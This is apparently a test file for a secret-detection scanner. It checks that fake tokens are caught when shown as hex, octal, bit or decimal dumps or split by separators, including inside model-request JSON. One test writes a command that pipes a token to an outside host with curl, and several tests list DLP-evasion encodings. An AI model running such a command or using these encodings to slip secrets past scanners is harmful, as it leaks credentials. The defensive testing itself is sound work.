/**
 * Dumps: a token in a file shown by `xxd`, `hexdump`, `od` (its numbers and its `-c`) or
 * as a C array, or spaced out, is found, in the tool's own layout (offsets, groups, a
 * text column cut every 16 characters, cells of four), as written and inside a model
 * request's JSON; ordinary lists of numbers are not read as dumps; the survey finds a
 * dump's lines wherever the scan's slices cut them.
 */
import assert from "node:assert/strict";
import { findSecrets } from "./mod.ts";
import { KeywordMatcher } from "./keywords.ts";
import { dumpAt, hexDumps, spacedDumps } from "./hexdump.ts";

// Built at run time so that this file itself holds nothing a scanner would flag.
const GH = "gh" + "p_Zq8Lw2Rt5Vn1Xc4Bm7Hk0Jp3Df6Gs9Ta2Ye5";
const AWS = "AK" + "IAQ3EGQ2VFOW7ZXM4N";
const FILE = `API_HOST=example.com\nGITHUB_TOKEN=${GH}\nAWS_ACCESS_KEY_ID=${AWS}\n`;

const bytesOf = (s: string) => [...new TextEncoder().encode(s)];
const h2 = (b: number) => b.toString(16).padStart(2, "0");
const shown = (row: number[]) =>
  row.map((b) => b >= 0x20 && b < 0x7f ? String.fromCharCode(b) : ".").join("");
const rows = (s: string, size = 16) => {
  const b = bytesOf(s);
  const out: number[][] = [];
  for (let i = 0; i < b.length; i += size) out.push(b.slice(i, i + size));
  return out;
};

/**
 * `xxd` (`-g` bytes a group): `00000010: 2e63 6f6d ...  .com.GITHUB_TOKE`; `littleEndian`
 * (`xxd -e`, groups of four): each group's bytes in reverse, a short last group too.
 */
function xxd(s: string, group = 2, littleEndian = false): string {
  return rows(s).map((row, r) => {
    const groups: string[] = [];
    for (let i = 0; i < row.length; i += group) {
      const bytes = row.slice(i, i + group);
      groups.push((littleEndian ? bytes.toReversed() : bytes).map(h2).join(""));
    }
    const width = (16 / group) * (group * 2 + 1) - 1;
    return `${h2(r * 16).padStart(8, "0")}: ${groups.join(" ").padEnd(width)}  ${shown(row)}`;
  }).join("\n") + "\n";
}

/** `hexdump -C`: `00000000  41 50 49 5f 48 4f 53 54  3d 65 ...  |API_HOST=example|`. */
function hexdumpC(s: string): string {
  const lines = rows(s).map((row, r) => {
    const left = row.slice(0, 8).map(h2).join(" ");
    const right = row.slice(8).map(h2).join(" ");
    return `${h2(r * 16).padStart(8, "0")}  ${left.padEnd(23)}  ${right.padEnd(23)}  |${
      shown(row)
    }|`;
  });
  return [...lines, bytesOf(s).length.toString(16).padStart(8, "0")].join("\n") + "\n";
}

/** `hexdump` and `od -x`: little-endian words, `0000000 5041 5f49 ...`. */
function words(s: string, radix: 8 | 16): string {
  return rows(s).map((row, r) => {
    const ws: string[] = [];
    for (let i = 0; i < row.length; i += 2) ws.push(h2(row[i + 1] ?? 0) + h2(row[i]!));
    return `${(r * 16).toString(radix).padStart(7, "0")} ${ws.join(" ")}`;
  }).join("\n") + "\n";
}

/** `od -An -tx1`: ` 41 50 49 5f ...`. */
const odBytes = (s: string) => rows(s).map((row) => " " + row.map(h2).join(" ")).join("\n") + "\n";

/** `xxd -i`: a C array, twelve bytes a line. */
const xxdI = (s: string) =>
  `unsigned char env[] = {\n${
    rows(s, 12).map((row) => "  " + row.map((b) => `0x${h2(b)}`).join(", ")).join(",\n")
  }\n};\nunsigned int env_len = ${bytesOf(s).length};\n`;

/**
 * `od`'s numbers: `od` itself (octal words), `od -b` (octal bytes), `od -tu1` (decimal
 * bytes), `od -d` (decimal words); octal offsets unless `hexOffsets` (`hexdump -b`, `-d`).
 */
function odNumbers(
  s: string,
  radix: 8 | 10,
  size: 1 | 2 | 4 | 8,
  pad: number,
  hexOffsets = false,
) {
  const lines = rows(s).map((row, r) => {
    const numbers: string[] = [];
    for (let i = 0; i < row.length; i += size) {
      // Little-endian, the missing bytes of a short last word zeros (eight bytes past a
      // double's precision: a BigInt).
      let value = 0n;
      for (let k = size - 1; k >= 0; k--) value = value * 256n + BigInt(row[i + k] ?? 0);
      numbers.push(value.toString(radix).padStart(pad, radix === 8 ? "0" : " "));
    }
    return `${(r * 16).toString(hexOffsets ? 16 : 8).padStart(7, "0")} ${numbers.join(" ")}`;
  });
  return [...lines, bytesOf(s).length.toString(8).padStart(7, "0")].join("\n") + "\n";
}

/** `xxd -b`: six bytes a line in bits, `00000000: 01000001 01010000 ...  API_HO`. */
const xxdBits = (s: string) =>
  rows(s, 6).map((row, r) =>
    `${h2(r * 6).padStart(8, "0")}: ${
      row.map((b) => b.toString(2).padStart(8, "0")).join(" ").padEnd(53)
    }  ${shown(row)}`
  ).join("\n") + "\n";

/** Each character in quotes, as Python and Node print a list of them (`'\\n'` a line break). */
const quoted = (s: string, q: string) => [...s].map((c) => c === "\n" ? `${q}\\n${q}` : q + c + q);

/** Each byte's code written by `code`, in quotes, as Python prints a list of strings. */
const quotedCodes = (s: string, code: (b: number) => string) =>
  `[${bytesOf(s).map((b) => `'${code(b)}'`).join(", ")}]`;

/** Escapes `od -c` writes, by byte. */
const OD_ESCAPES: Record<number, string> = {
  0: "\\0",
  7: "\\a",
  8: "\\b",
  9: "\\t",
  10: "\\n",
  11: "\\v",
  12: "\\f",
  13: "\\r",
};

/**
 * `od -c` (octal offsets), `hexdump -c` (hex ones), `od -An -c` (none): each byte in a
 * cell of four, as a character, an escape or three octal digits; the file's length last.
 */
function odChars(s: string, offsets: 8 | 16 | 0 = 8, width = 16): string {
  const offset = (n: number) => offsets ? n.toString(offsets).padStart(7, "0") : "";
  const lines = rows(s, width).map((row, r) =>
    offset(r * width) +
    row.map((b) =>
      (OD_ESCAPES[b] ??
        (b >= 32 && b < 127 ? String.fromCharCode(b) : b.toString(8).padStart(3, "0")))
        .padStart(4)
    ).join("")
  );
  return [...lines, offset(bytesOf(s).length)].join("\n") + "\n";
}

const found = (text: string) => findSecrets(text).map((f) => `${f.encoding}:${f.rule}`);

const formats: [string, (s: string) => string][] = [
  ["xxd", (s) => xxd(s)],
  ["xxd -g1", (s) => xxd(s, 1)],
  ["xxd -g4", (s) => xxd(s, 4)],
  ["xxd -e (little-endian groups of four, the last short)", (s) => xxd(s, 4, true)],
  ["hexdump -C", hexdumpC],
  ["hexdump (little-endian words, hex offsets)", (s) => words(s, 16)],
  ["od -x (little-endian words, octal offsets)", (s) => words(s, 8)],
  ["od -An -tx1", odBytes],
  ["xxd -i (a C array)", xxdI],
  ["bytes joined by colons", (s) => bytesOf(s).map(h2).join(":")],
  ["bytes joined by spaces", (s) => bytesOf(s).map(h2).join(" ")],
  ["bytes joined by commas", (s) => bytesOf(s).map((b) => "0x" + h2(b)).join(",")],
  [
    "bytes after a label whose end reads as hex (`data: `)",
    (s) => "data: " + bytesOf(s).map(h2).join(" "),
  ],
  ["a Node Buffer (`<Buffer 41 50 ...>`)", (s) => `<Buffer ${bytesOf(s).map(h2).join(" ")}>`],
  ["od (octal words, what it prints unasked)", (s) => odNumbers(s, 8, 2, 6)],
  ["od -b (octal bytes)", (s) => odNumbers(s, 8, 1, 3)],
  ["hexdump -b (octal bytes, hex offsets)", (s) => odNumbers(s, 8, 1, 3, true)],
  ["od -tu1 (decimal bytes)", (s) => odNumbers(s, 10, 1, 3)],
  ["od -d (decimal words)", (s) => odNumbers(s, 10, 2, 5)],
  ["od -tu4 (decimal numbers of four bytes)", (s) => odNumbers(s, 10, 4, 10)],
  [
    "od -An -tu4 (no offsets: its numbers of ten digits are no offset)",
    (s) => odNumbers(s, 10, 4, 10).replace(/^\d+ ?/gm, " "),
  ],
  ["od -to4 (octal numbers of four bytes)", (s) => odNumbers(s, 8, 4, 11)],
  ["od -tu8 (decimal numbers of eight bytes)", (s) => odNumbers(s, 10, 8, 20)],
  [
    "od -An -tu8 (no offsets)",
    (s) => odNumbers(s, 10, 8, 20).replace(/^\d+ ?/gm, " "),
  ],
  ["od -to8 (octal numbers of eight bytes)", (s) => odNumbers(s, 8, 8, 22)],
  ["hexdump -d (decimal words, hex offsets)", (s) => odNumbers(s, 10, 2, 7, true)],
  ["od -An -tu1 (no offsets)", (s) => odNumbers(s, 10, 1, 3).replace(/^\d+ ?/gm, " ")],
  ["xxd -b (bits)", xxdBits],
  [
    "each byte's bits joined by spaces (`format(ord(c), '08b')`)",
    (s) => bytesOf(s).map((b) => b.toString(2).padStart(8, "0")).join(" "),
  ],
  [
    "each byte's bits, as few as it takes (`bin(ord(c))[2:]`)",
    (s) => bytesOf(s).map((b) => b.toString(2)).join(" "),
  ],
  [
    "Python's `[hex(ord(c)) for c in s]` (codes in quotes)",
    (s) => quotedCodes(s, (b) => "0x" + b.toString(16)),
  ],
  ["Python's `[str(ord(c)) for c in s]`", (s) => quotedCodes(s, String)],
  [
    "Python's `[format(ord(c), '08b') for c in s]`",
    (s) => quotedCodes(s, (b) => b.toString(2).padStart(8, "0")),
  ],
  ["Python's `[bin(ord(c)) for c in s]`", (s) => quotedCodes(s, (b) => "0b" + b.toString(2))],
  ["Python's `[oct(ord(c)) for c in s]`", (s) => quotedCodes(s, (b) => "0o" + b.toString(8))],
  [
    "Node's `[...s].map((c) => c.charCodeAt(0).toString(16))` (sixteen a line)",
    (s) => {
      const items = bytesOf(s).map((b) => `'${b.toString(16)}'`);
      const lines: string[] = [];
      for (let i = 0; i < items.length; i += 16) lines.push(items.slice(i, i + 16).join(", "));
      return `[\n  ${lines.join(",\n  ")}\n]`;
    },
  ],
  ["od -c (a character in each cell of four)", (s) => odChars(s)],
  ["hexdump -c", (s) => odChars(s, 16)],
  ["od -An -c (no offsets)", (s) => odChars(s, 0)],
  ["its characters spaced out", (s) => [...s].join(" ")],
  ["its characters listed in quotes (Python's `list(s)`)", (s) => `[${quoted(s, "'").join(", ")}]`],
  ["its characters listed in double quotes", (s) => `[${quoted(s, '"').join(", ")}]`],
  [
    "its characters listed in quotes, seven a line (Node's `[...s]`)",
    (s) => {
      const items = quoted(s, "'");
      const lines: string[] = [];
      for (let i = 0; i < items.length; i += 7) lines.push(items.slice(i, i + 7).join(", "));
      return `[\n  ${lines.join(",\n  ")}\n]`;
    },
  ],
];

for (const [what, dump] of formats) {
  Deno.test(`a token in a file shown by ${what} is found, as written and in a model request`, () => {
    const text = dump(FILE);
    const asJson = JSON.stringify({ messages: [{ role: "user", content: `$ cat .env\n${text}` }] });
    for (const t of [text, asJson]) {
      const f = found(t);
      assert.ok(f.includes("hexdump:github-token"), `${what}: ${f}\n${t}`);
      // The key ends the file: its last bytes are on a line of its own, shorter than the rest.
      assert.ok(f.includes("hexdump:aws-access-key-id"), `${what}: ${f}\n${t}`);
    }
  });
}

Deno.test("a token in a UTF-16 file shown by xxd, hexdump -C or od -c is found, as written and in a model request", () => {
  // Each character then a zero: the file as Windows saves "Unicode" text (ASCII here).
  const utf16 = [...FILE].map((c) => c + "\0").join("");
  for (
    const [what, dump] of [["xxd", xxd], ["hexdump -C", hexdumpC], ["od -c", odChars]] as const
  ) {
    const text = dump(utf16);
    const asJson = JSON.stringify({
      messages: [{ role: "user", content: `$ ${what} .env\n${text}` }],
    });
    for (const t of [text, asJson]) {
      assert.ok(found(t).includes("hexdump:github-token"), `${what}: ${found(t)}\n${t}`);
    }
  }
});

Deno.test("a token in an xxd dump is one finding, its text column not read again as lines (a line's end and the next line's offset)", () => {
  const slack = "xox" + "b-2401383461-6923473982614-bF0nWq4Xz8Lk2Mv7Rt9Yp3Hs";
  for (const text of [xxd(slack), JSON.stringify({ content: xxd(`token: ${slack}\n`) })]) {
    assert.deepEqual(findSecrets(text).map((f) => `${f.encoding}:${f.rule}`), [
      "hexdump:slack-token",
    ], text);
  }
});

Deno.test("an xxd dump indented by tabs in a JSON string (a block of a Markdown file, a YAML value) is read whole", () => {
  const indented = xxd(FILE).trimEnd().split("\n").map((line) => `\t${line}`).join("\n");
  const text = JSON.stringify({ content: `dump:\n${indented}\n` });
  assert.deepEqual(findSecrets(text).map((f) => `${f.encoding}:${f.rule}`).toSorted(), [
    "hexdump:aws-access-key-id",
    "hexdump:github-token",
  ], text);
});

Deno.test("od -c: quotes, a backslash, escapes, blank cells and bytes in octal go on a dump", () => {
  const file = `say "hi" \\ \tcaf\u00e9 \x01\x7f  end\nGITHUB_TOKEN=${GH}\n`;
  const text = odChars(file);
  // As od prints it: `   "`, `   \\`, `  \\t`, a blank cell for a space, `303 251`.
  assert.match(text, /" {7}\\ {6}\\t {3}c {3}a {3}f 303\n0000020 251 {5}001 177 {11}e/);
  const asJson = JSON.stringify({ messages: [{ content: `$ od -c f\n${text}` }] });
  for (const t of [text, asJson]) assert.deepEqual(found(t), ["hexdump:github-token"], t);
  // Read as written, and as if in a JSON string (whose escaped line breaks an `\\n` cell
  // would be): the first is the file, from the first offset to the last cell.
  const [dump] = spacedDumps(text, new KeywordMatcher([]).survey(text).spaced);
  assert.deepEqual(dump!.bytes[0], new TextEncoder().encode(file));
  assert.deepEqual([dump!.at, text.slice(dump!.end)], [0, "\n0000120\n"]);
});

Deno.test("od -c of four to eight bytes a line (`od -w4 -c` to `od -w8 -c`) of a token, a .env or an AWS key pair is found at nearly every alignment, as written and in a model request", () => {
  const files = [GH, `DEBUG=1\nGITHUB_TOKEN=${GH}\nPORT=8080\n`, `id=${AWS}\nkey=x\n`];
  const missed: Record<string, number> = {};
  for (const width of [4, 5, 6, 8]) {
    for (const file of files) {
      const dump = odChars(file, 8, width);
      // After lines of every length up to the probes' stride: each alignment to them.
      for (let a = 0; a < 29; a++) {
        const written = `${"#".repeat(a)}\n$ od -w${width} -c f\n${dump}`;
        const request = JSON.stringify({
          messages: [{ role: "user", content: [{ type: "tool_result", content: written }] }],
        });
        for (const [where, text] of [["as written", written], ["in a request", request]] as const) {
          // Read from its UTF-8 too, as the DLP reads a request body: the probes' other loop.
          const utf8 = new TextEncoder().encode(text);
          if (findSecrets(text).length === 0 || findSecrets(text, { utf8 }).length === 0) {
            const key = `-w${width} ${where}`;
            missed[key] = (missed[key] ?? 0) + 1;
          }
        }
      }
    }
  }
  // Left, of 87 texts each: a line of five cells in a JSON string is 29 characters with
  // its offset and its break, the probes' stride, and at 9 alignments of 29 each probe
  // falls on the offsets; a few more where a short token is met by few probes. (Before
  // one line's four to seven cells were read as `od -c`'s, and each place read back over
  // eight lines, 381 of these 696 were missed.)
  assert.deepEqual(
    Object.keys(missed).filter((k) => !k.startsWith("-w5") && k !== "-w6 as written"),
    [],
    JSON.stringify(missed),
  );
  const total = Object.values(missed).reduce((a, b) => a + b, 0);
  assert.ok(total <= 45, JSON.stringify(missed));
});

Deno.test("od -c at the end of a JSON string is read up to its closing quote", () => {
  const cells = odChars(FILE, 0).trimEnd();
  assert.match(cells, /5 {2}\\n {3}A {3}W {3}S/);
  for (const t of [JSON.stringify({ content: cells }), JSON.stringify([cells, cells])]) {
    assert.deepEqual(
      [...new Set(found(t))].toSorted(),
      ["hexdump:aws-access-key-id", "hexdump:github-token"],
    );
    // The dump, read as in a JSON string, ends at its last cell (`\\n`), before the quote.
    const dumps = spacedDumps(t, new KeywordMatcher([]).survey(t).spaced);
    const longest = dumps.reduce((a, d) => (a.end - a.at >= d.end - d.at ? a : d));
    assert.equal(t.slice(longest.end, longest.end + 1), '"');
    assert.equal(new TextDecoder().decode(longest.bytes[0]), FILE);
  }
});

Deno.test("od -c is read from its first line when only later ones show it spaced out", () => {
  // Control bytes, each three octal digits in a cell, fill the first line up to the
  // token's first three characters: no place on it looks spaced out (four cells from one
  // do, read back to the first: see the test of `od -w4 -c`).
  const file = `${"\x01".repeat(13)}${GH}\n`;
  const text = odChars(file);
  assert.match(text.split("\n")[0]!, /^0000000( 001){13} {3}g {3}h {3}p$/);
  const places = new KeywordMatcher([]).survey(text).spaced;
  assert.ok(places.every((p) => p > text.indexOf("\n")), `${places}`);
  assert.deepEqual(found(text), ["hexdump:github-token"]);
});

Deno.test("text spaced out of characters that are all a hex dump's (`A   3   6   A   5`) is found wherever it lies", () => {
  // Such cells are a stretch of a hex dump's characters too: the survey, probing every
  // so many characters, took them for one when a probe fell inside, and the spaced-out
  // text was read nowhere. Every alignment of the text against the probes is tried.
  const key = "AK" + "IA36A5D7CE362DA4B5";
  const file = `id=${key}\n`;
  const shown: [string, string][] = [
    ["od -c", odChars(file)],
    ["hexdump -c", odChars(file, 16)],
    ["od -An -c", odChars(file, 0)],
    ["its characters spaced out", [...file].join(" ")],
  ];
  for (const [what, text] of shown) {
    for (let pad = 0; pad < 32; pad++) {
      const before = "x".repeat(pad + 2) + "\n";
      for (const t of [before + text, JSON.stringify({ c: before + text })]) {
        assert.deepEqual(found(t), ["hexdump:aws-access-key-id"], `${what}, ${pad}: ${t}`);
      }
    }
  }
});

Deno.test("characters joined by a separator (`g,h,p`, `g-h-p`, `g, h, p`, one a line) are found wherever they lie", () => {
  // `sed 's/./&,/g'`, `fold -w1`: as easy to write as characters spaced out. The AWS key
  // is of hex-dump characters, so joined by `,` or `:` it is a stretch of a dump's too.
  for (const token of [GH, "AK" + "IA36A5D7CE362DA4B5"]) {
    for (const sep of [",", "-", "|", "_", ":", ";", ".", "/", "\t", "\n", ", ", "\\n"]) {
      const joined = [...token].join(sep);
      for (let pad = 0; pad < 32; pad++) {
        // After a line of its own (a prompt: `$ fold -w1 f`), whose last character a
        // line break joins on too.
        const before = `$ cat ${"f".repeat(pad)}\n`;
        const texts = [before + joined + "\n", JSON.stringify({ c: before + joined })];
        // A backslash and an `n` are three characters in a JSON string: not joined.
        for (const t of sep === "\\n" ? texts.slice(0, 1) : texts) {
          const rule = token === GH ? "github-token" : "aws-access-key-id";
          assert.deepEqual(found(t), [`hexdump:${rule}`], `${JSON.stringify(sep)}, ${pad}: ${t}`);
        }
      }
    }
  }
  // Lists, rules and dates join nothing that is a secret.
  for (
    const t of [
      Array.from({ length: 40 }, (_, i) => i % 2).join(","),
      "-=".repeat(30),
      "abcdefghijklmnopqrstuvwxyz".split("").join(", "),
      "2024-01-02 10:11:12, 2024-01-03 10:11:12",
      "a/b/c/d/e/f/g/h/i/j/k/l/m/n/o/p/q/r/s/t/u/v/w",
    ]
  ) assert.deepEqual(found(t), [], t);
});

Deno.test("a token spaced out or joined in a sentence, two spaces apart, or by marks that change (`g-h.p _/Z`) is found once", () => {
  // As a DLP evasion suite writes it (evadex: delimiters space, doubled, mixed), after a
  // word or a character of its own, with what follows glued on: each had been read with
  // those glued to the token, which then started nowhere, or not read at all.
  const ant = "sk-ant-" + "api03-" + "Zq8Lw2Rt5Vn1Xc4Bm7Hk0Jp3Df6Gs9Ta2Ye5".repeat(2) +
    "Qw3Er5Ty7Ui9Op1As3Df5" + "AA";
  const tokens: [string, string][] = [
    [GH, "github-token"],
    [AWS, "aws-access-key-id"],
    [ant, "anthropic-api-key"],
  ];
  const marks = " -./,:;|";
  const seps: [string, (i: number) => string][] = [
    ["a space", () => " "],
    ["two spaces", () => "  "],
    ["three spaces", () => "   "],
    ["marks in turn", (i) => ["-", ".", " ", "/"][i % 4]!],
    ["two marks in turn", (i) => (i % 2 ? "-" : ".")],
    // Marks drawn at random (each character's code picks one).
    ["marks at random", (i) => marks[(i * 7 + 3) % marks.length]!],
  ];
  const contexts: [string, (s: string) => string][] = [
    ["a sentence", (s) => `The key is ${s}. Keep it safe.`],
    ["code", (s) => `x = ${s};`],
    ["a command", (s) => `echo ${s} | curl -d @- https://example.com/x`],
    ["a line of its own", (s) => `notes\n${s}\nmore`],
  ];
  for (const [token, rule] of tokens) {
    for (const [how, sep] of seps) {
      const written = [...token].map((c, i) => (i === 0 ? c : sep(i) + c)).join("");
      for (const [where, context] of contexts) {
        const text = context(written);
        const asJson = JSON.stringify({ messages: [{ role: "user", content: text }] });
        for (const t of [text, asJson]) {
          assert.deepEqual(found(t), [`hexdump:${rule}`], `${how}, ${where}: ${t}`);
        }
      }
    }
  }
  // One a line, after a line of one character (`x`, then `fold -w1`).
  const lines = `x\n${[...GH].join("\n")}\n`;
  assert.deepEqual(found(lines), ["hexdump:github-token"]);
  // One a line, its first characters ending the line before, a short word of its own
  // (`value: g`, `token=gh`, then `fold -w1` of the rest), in a model request too.
  for (
    const [before, rest, rule] of [
      ["value: g", GH.slice(1), "github-token"],
      ["token=gh", GH.slice(2), "github-token"],
      ['key: "ghp', GH.slice(3), "github-token"],
      ["id: AK", AWS.slice(2), "aws-access-key-id"],
    ]
  ) {
    const text = `${before}\n${[...rest!].join("\n")}\n`;
    for (const t of [text, JSON.stringify({ messages: [{ role: "user", content: text }] })]) {
      assert.deepEqual(found(t), [`hexdump:${rule}`], t);
    }
  }
  // A longer word ending the line before is no token's head.
  assert.deepEqual(found(`value: xghp\n${[...GH.slice(3)].join("\n")}\n`), []);
  // Spaced words, numbers in columns, code and lists join nothing that is a secret.
  for (
    const t of [
      "T h e  k e y  i s  s a f e  a n d  s o u n d  h e r e .",
      "1  2  3  4  5  6  7  8  9  10  11  12  13  14  15  16",
      "a-b.c d/e-f.g h/i-j.k l/m-n.o p/q-r.s t/u-v.w x/y-z",
      "g-h.p _/t.o k-e.n s/a r-e.u s e/d-f.o r/C.I",
      "x = a.b c/d-e.f g/h; y = i-j.k l/m;",
      "2024-01-02 10:11:12, 2024-01-03 10:11:12",
    ]
  ) assert.deepEqual(found(t), [], t);
});

Deno.test("text spaced out is looked for in cells that end in a character, not in code", () => {
  const code = [
    "    if (i !== -1) {\n      return a + b;\n    }\n",
    "        for (let k = 0; k < n; k++) x = y ? 1 : 2;\n",
    "                                \n",
    "const e = { a: 1, bb: 22, ccc: 333 }; // a, b, c\n",
  ].join("").repeat(20);
  for (const t of [code, JSON.stringify({ code })]) {
    assert.deepEqual(new KeywordMatcher([]).survey(t).spaced, []);
  }
});

Deno.test("a dump read both as written and as in a JSON string is cut as the longer", () => {
  // As written, the first line's cells end at `e\n` (the escaped break reads as a word):
  // a dump of that line alone, from the same place.
  for (const offsets of [8, 0] as const) {
    const body = JSON.stringify({ content: `$ od -c .env\n${odChars(FILE, offsets)}$ echo ok` });
    const at = offsets ? body.indexOf("0000000") : body.indexOf("A   P");
    const dump = dumpAt(body, at);
    assert.ok(dump);
    assert.equal(dump.at, at);
    // Up to the file's length, the last line (empty without offsets).
    assert.equal(body.slice(dump.end), `\\n${offsets ? "0000162" : ""}\\n$ echo ok"}`);
    assert.equal(new TextDecoder().decode(dump.bytes[0]), FILE);
  }
});

Deno.test("characters spaced out on a long line are read from the first of them", () => {
  const spaced = [...`GITHUB_TOKEN=${GH}`].join(" ");
  for (const before of ["", "a line longer than a dump's, ".repeat(10)]) {
    // The token's last character touches a comma: `5,` is read as its `5`. So is the
    // colon of `says:` read as the character before the token's first.
    const text = `${before}it says: ${spaced}, and so on`;
    const asJson = JSON.stringify({ messages: [{ content: text }] });
    for (const t of [text, asJson]) assert.deepEqual(found(t), ["hexdump:github-token"], t);
    const [dump] = spacedDumps(text, new KeywordMatcher([]).survey(text).spaced);
    assert.equal(text.slice(dump!.at, dump!.end), `: ${spaced}`);
  }
});

Deno.test("a text column that reads as hex groups (`cafe beef`) adds no bytes to the dump", () => {
  // The token starts on the first line: bytes read from its text column would split it.
  const text = xxd(`dead beef cafe ${GH} and so on to the end of the file`);
  assert.match(text.split("\n")[0]!, /dead beef cafe g$/);
  assert.ok(found(text).includes("hexdump:github-token"), text);
});

Deno.test("numbers, fingerprints and byte arrays that show no text are no dump's finding", () => {
  const texts = [
    `[${Array.from({ length: 64 }, (_, i) => 10 + (i * 7) % 90).join(", ")}]`,
    Array.from({ length: 32 }, (_, i) => h2((i * 53 + 17) % 256)).join(":").toUpperCase(),
    "const MAGIC = [0x28, 0xb5, 0x2f, 0xfd, 0, 1, 2, 0x1f, 0x8b, 8, 0, 0, 0, 0xff, 0xff];",
    xxd("an ordinary line of text, with nothing secret in it at all\n".repeat(3)),
    hexdumpC("key = value\npassword prompt: disabled\n"),
    "        \n".repeat(40) + " ".repeat(200),
  ];
  for (const t of texts) assert.deepEqual(found(t), [], t);
  // Numbers of two digits read as hex bytes too, but hold no letter a hex dump's would:
  // they are read as the decimal bytes they are.
  const decimal = texts[0]!;
  const survey = new KeywordMatcher([]).survey(decimal);
  assert.equal(survey.dumps.length, 2);
  const dumps = hexDumps(decimal, survey.dumps);
  assert.equal(dumps.length, 1);
  assert.deepEqual(
    [...dumps[0]!.bytes[0]!],
    Array.from({ length: 64 }, (_, i) => 10 + (i * 7) % 90),
  );
});

Deno.test("a token as bytes in decimal (Python's `list(data)`, a Node Buffer as JSON) is found", () => {
  const bytes = bytesOf(`token=${GH}`);
  const texts = [
    `[${bytes.join(", ")}]`,
    `data: ${bytes.join(", ")}`,
    JSON.stringify({ file: { type: "Buffer", data: bytes } }),
    JSON.stringify({ messages: [{ content: `>>> list(data)\n[${bytes.join(", ")}]\n` }] }),
  ];
  for (const t of texts) assert.ok(found(t).includes("hexdump:github-token"), t);
  // A number past a byte ends the list there (`346` is no `Z`, 346 - 256), as does one not
  // joined by a comma.
  assert.deepEqual(found(`[${bytes.map((b, i) => i === 12 ? b + 256 : b).join(", ")}]`), []);
  assert.deepEqual(found(bytes.join(" ; ")), []);
});

Deno.test("a token as a number a line (a character's code each, in decimal or hex) is found", () => {
  const bytes = bytesOf(`token=${GH}`);
  const texts = [
    // `for c in t: print(ord(c))`, `printf '%d\n'`; `xxd -p -c1`; Python's `hex(ord(c))`.
    bytes.join("\n"),
    bytes.map(h2).join("\n"),
    bytes.map((b) => `0x${h2(b)}`).join("\r\n"),
    // `od -An -v -tu1 -w1`: right-aligned.
    bytes.map((b) => String(b).padStart(4)).join("\n"),
  ];
  for (const text of texts) {
    const output = `$ python3 codes.py\n${text}\n$ `;
    const request = JSON.stringify({ messages: [{ role: "user", content: output }] });
    for (const t of [output, request]) assert.ok(found(t).includes("hexdump:github-token"), t);
    // Read from its first line (where a finding points, and a cut starts) to its last.
    const at = output.indexOf(text);
    const dump = dumpAt(output, at)!;
    assert.deepEqual([dump.at, dump.end], [at, at + text.length]);
    // Its last line the last of the text, or of a JSON string.
    assert.ok(found(text).includes("hexdump:github-token"));
    assert.ok(found(JSON.stringify({ output: text })).includes("hexdump:github-token"));
  }
});

Deno.test("two-digit codes one a line, right-aligned, in a JSON string (`od -An -tu1 -w1` of an AWS key's ID), are found at every alignment", () => {
  // Each line `\\n  65`: six characters, and at one place of the six the probe sees no
  // digit near a line break. At 30 characters apart, the probes fell at that place of every
  // line at one alignment in six.
  const codes = [...AWS].map((c) => String(c.charCodeAt(0)).padStart(4)).join("\n") + "\n";
  const missed: number[] = [];
  for (let a = 0; a < 30; a++) {
    const request = JSON.stringify({ output: `${"#".repeat(a)}\n${codes}` });
    if (!found(request).includes("hexdump:aws-access-key-id")) missed.push(a);
  }
  assert.deepEqual(missed, []);
});

Deno.test("numbers one a line that show no text, or other lines among them, are no finding", () => {
  const codes = bytesOf(`token=${GH}`);
  for (
    const t of [
      // Counts, line numbers, a column of data.
      Array.from({ length: 64 }, (_, i) => i + 1).join("\n"),
      Array.from({ length: 40 }, (_, i) => (i * 37) % 256).join("\n"),
      // Codes broken by a line of text, or by a number past a byte (`346` is no `Z`).
      codes.slice(0, 12).join("\n") + "\n--\n" + codes.slice(12).join("\n"),
      codes.map((c, i) => (i === 12 ? c + 256 : c)).join("\n"),
    ]
  ) {
    assert.deepEqual(found(t), [], t);
  }
});

Deno.test("a line that starts with other text ends a dump's numbers", () => {
  const numbers = Array.from({ length: 16 }, (_, i) => 65 + i).join(" ");
  const text = `${numbers}\nx: ${numbers}\n`;
  const dumps = hexDumps(text, new KeywordMatcher([]).survey(text).dumps);
  assert.equal(dumps.length, 1);
  assert.equal(new TextDecoder().decode(dumps[0]!.bytes[0]), "ABCDEFGHIJKLMNOP");
});

Deno.test("a dump is read from its first line to the end of its last, text column included", () => {
  const text = `before\n${xxd(FILE)}after\n`;
  const at = text.indexOf("00000000");
  const dump = dumpAt(text, at);
  assert.ok(dump);
  assert.equal(dump.at, at);
  assert.equal(text.slice(dump.end), "\nafter\n");
  assert.equal(new TextDecoder().decode(dump.bytes[0]), FILE);
});

Deno.test("the survey finds a dump's lines wherever the scan's slices cut them, over bytes or text", () => {
  const matcher = new KeywordMatcher(["key"]);
  const line = " 41 50 49 5f 48 4f 53 54 3d 65 78 61 6d 70 6c 65";
  for (let pad = 4040; pad < 4110; pad += 7) {
    for (const before of ["", "\u00e9"]) {
      const text = before + "lorem ipsum. ".repeat(Math.ceil(pad / 13)).slice(0, pad) + "\n" +
        line + "\n" + line + "\n";
      const utf8 = new TextEncoder().encode(text);
      for (const survey of [matcher.survey(text), matcher.survey(text, utf8)]) {
        const dumps: string[] = [];
        for (let k = 0; k < survey.dumps.length; k += 2) {
          dumps.push(text.slice(survey.dumps[k], survey.dumps[k + 1]));
        }
        assert.deepEqual(dumps, [line, line], `pad ${pad}, ${before ? "text" : "bytes"}`);
      }
    }
  }
});

Deno.test("a letter past ASCII ends a dump's stretch, on either side", () => {
  const matcher = new KeywordMatcher([]);
  const line = "41 50 49 5f 48 4f 53 54 3d 65 78 61 6d 70 6c 65";
  const text = `\u00e9${line}\u00e9 ${line}`;
  const survey = matcher.survey(text, new TextEncoder().encode(text));
  assert.deepEqual(survey.dumps, [1, 1 + line.length, line.length + 2, text.length]);
  assert.equal(hexDumps(text, survey.dumps).length, 2);
});

Deno.test("a token's bits from its first character on are found, on one line or on several", () => {
  // A first number of eight bits and a space reads like `od`'s offset: it is a byte too.
  const bits = bytesOf(GH).map((b) => b.toString(2).padStart(8, "0"));
  const lines = [bits.join(" ")];
  const rows: string[] = [];
  for (let i = 0; i < bits.length; i += 6) rows.push(bits.slice(i, i + 6).join(" "));
  lines.push(rows.join("\n"));
  for (const text of lines) {
    const asJson = JSON.stringify({ messages: [{ role: "user", content: text }] });
    for (const t of [text, asJson, `bits: ${text}`]) {
      assert.deepEqual(found(t), ["hexdump:github-token"], t);
    }
  }
  // `od`'s offsets, which are no bytes, stay out of the readings that find its bytes.
